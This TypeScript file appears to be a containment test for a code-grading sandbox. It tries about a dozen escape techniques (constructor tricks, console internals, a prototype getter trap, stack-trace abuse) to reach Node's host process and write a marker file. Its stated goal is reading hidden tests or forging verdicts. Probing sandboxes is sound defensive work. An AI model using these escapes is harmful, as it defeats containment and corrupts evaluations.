// attack: reach the host's process, require, fs, child_process or inspector (issue 10 class 4:
// Node's worker port behind console._stdout, an accessor on EventEmitter.prototype), then read
// the hidden tests or the reference solution, or forge a verdict.
let __host: any;
const __attempts: (() => unknown)[] = [
  () => (globalThis as any).process,
  () => Function("return process")(),
  () => Function("return this")().process,
  () => (function () {}).constructor("return process")(),
  () => Object.getPrototypeOf(async function () {}).constructor("return process")(),
  () => (console as any)._stdout,
  () => Object.getOwnPropertySymbols((console as any)._stdout).map((s) => (console as any)._stdout[s]),
  () => (globalThis as any).require("node:fs"),
  () => (module as any).constructor._load("node:fs"),
  () => (globalThis as any).Buffer,
  () => { Object.defineProperty(Object.prototype, "process", { get() { __host = this; return undefined; }, configurable: true }); },
  () => { const E: any = Error; E.prepareStackTrace = (_: unknown, sites: any[]) => sites; const sites: any = new Error().stack; __host = sites.map((s: any) => s.getThis?.() ?? s.getFunction?.()).find(Boolean); },
];
for (const a of __attempts) {
  try {
    const got = a();
    if (got && typeof got === "object" && typeof (got as any).getBuiltinModule === "function") __host = got;
  } catch {}
}
if (__host?.getBuiltinModule) {
  try { __host.getBuiltinModule("fs").writeFileSync("/tmp/synclab-escaped", "escaped"); } catch {}
}
